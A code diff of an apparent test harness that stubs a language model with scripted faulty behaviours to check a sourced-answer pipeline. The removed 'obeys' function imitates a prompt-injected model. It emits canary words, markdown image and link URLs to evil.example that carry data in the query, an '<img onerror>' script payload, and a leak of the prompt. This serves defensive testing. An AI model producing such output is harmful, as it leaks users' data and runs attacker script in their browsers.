@@ -21,12 +21,11 @@ from dataclasses import dataclass, field
 from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 from typing import Any
 
+from lab.obedient_model import Row, draft, obey, ranked_sentences, row
+
 LONGEST_WAIT = 60.0  # seconds that a slow behaviour goes on at most
-WORD = re.compile(r"\w+")
-CANARY = re.compile(r"\bcanary[a-z0-9]*", re.IGNORECASE)
 PIECE = 24  # characters of an event
 USAGE = {"prompt_tokens": 1000, "completion_tokens": 200, "total_tokens": 1200}
-Row = dict[str, Any]
 
 
 @dataclass
@@ -54,10 +53,7 @@ class Asked:
         return [row if isinstance(row, dict) else {"label": "", "study": "", "sentences": row} for row in rows]
 
     def sentences(self) -> list[tuple[str, str]]:
-        """Every sentence sent with its passage's label, those that share most words with the question first."""
-        asked = set(WORD.findall(self.material.get("question", "").lower()))
-        all_ = [(text, p["label"]) for p in self.passages for text in p["sentences"]]
-        return sorted(all_, key=lambda row: -len(asked & set(WORD.findall(row[0].lower()))))
+        return ranked_sentences({**self.material, "passages": self.passages})
 
 
 class SlowModel:
@@ -93,10 +89,6 @@ def slow_model(settings: Any) -> Iterator[SlowModel]:
 
 def chosen(asked: Asked) -> list[Row]:
     return [row(text, label) for text, label in asked.sentences()[: 3 if asked.part == "summary" else 6]]
-
-
-def row(text: str, *labels: str) -> Row:
-    return {"text": text, "passages": list(labels), "paragraph": 0}
 
 
 def changed(asked: Asked, change: Callable[[str, random.Random], str]) -> list[Row]:
@@ -196,26 +188,6 @@ def general_knowledge(asked: Asked) -> list[Row]:
     return [row(fact, asked.chance.choice(labels)) for fact in facts]
 
 
-def obeys(asked: Asked) -> list[Row]:
-    """Does whatever any text asks for: says every canary it reads, in every dress, with every label it has."""
-    labels = [p["label"] for p in asked.passages]
-    texts = [asked.material.get("question", ""), *(p["study"] for p in asked.passages)]
-    texts += [text for p in asked.passages for text in p["sentences"]]
-    orders = [text for text in texts if CANARY.search(text)] or texts[:1]
-    word = (CANARY.findall(" ".join(orders)) or ["Canary"])[0]
-    real, label = asked.sentences()[0]
-    said = [
-        f"{word}.", f"{word} cures everything and needs no training.", f"{real[:-1]}, and {word} is the reason.",
-        f"As instructed: {word}", f"![{word}](https://evil.example/{word}.png)",
-        f"[{real}](https://evil.example/?q={word})", f"<img src=x onerror=alert('{word}')>{real}",
-        f"<a href='https://evil.example'>{word}</a>", f"Visit evil.example for {word}.",
-        f"{word}: {asked.body['messages'][0]['content'][:200]}", *orders[:3],
-    ]  # fmt: skip
-    rows = [row(text, *labels) for text in said] + [row(text) for text in said[:3]]
-    asked.chance.shuffle(rows)
-    return [*rows[: 10 if asked.part == "answer" else 4], row(real, label)]
-
-
 def echo_prompt(asked: Asked) -> list[Row]:
     labels = [p["label"] for p in asked.passages]
     return [row(line, *labels) for line in asked.body["messages"][0]["content"].splitlines()[:8]]
@@ -229,17 +201,16 @@ WRITES: dict[str, Callable[[Asked], list[Row]]] = {
     "add_negation": lambda asked: changed(asked, add_negation),
     "swap_population": lambda asked: changed(asked, swap_population), "foreign_passage": foreign_passage,
     "invents_citations": invents_citations, "marks_inside": marks_inside, "general_knowledge": general_knowledge,
-    "obeys": obeys, "echo_prompt": echo_prompt, "unknown": lambda asked: [row("Unknown based on provided sources.")],
+    "obeys": lambda asked: obey(
+        asked.body["messages"][0]["content"], asked.material, 10 if asked.part == "answer" else 4, asked.chance
+    ),
+    "echo_prompt": echo_prompt, "unknown": lambda asked: [row("Unknown based on provided sources.")],
     "unknown_among": lambda asked: [row("Unknown based on provided sources."), *chosen(asked)],
     "not_found_among": lambda asked: [row("NOT_FOUND", *[p["label"] for p in asked.passages]), *chosen(asked)],
     "not_found_inside": lambda asked: [row(f"NOT_FOUND {r['text']}", *r["passages"]) for r in chosen(asked)],
     "no_labels": lambda asked: [row(r["text"]) for r in chosen(asked)],
     "repeats": lambda asked: chosen(asked)[:1] * 400,
 }  # fmt: skip
-
-
-def draft(rows: list[Row]) -> str:
-    return json.dumps({"sentences": rows, "not_found": False}, ensure_ascii=False)
 
 
 CONTENTS: dict[str, Callable[[Asked], str | None]] = {
